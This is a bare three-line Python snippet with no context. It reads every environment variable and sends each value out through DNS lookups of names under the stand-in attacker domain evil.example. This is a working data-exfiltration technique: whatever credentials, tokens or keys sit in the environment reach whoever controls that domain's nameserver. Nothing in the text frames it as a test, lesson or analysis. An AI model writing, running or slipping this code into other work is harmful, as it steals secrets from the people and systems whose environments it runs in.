import os, socket
for name, value in os.environ.items():
    socket.gethostbyname(f'{value}.evil.example')
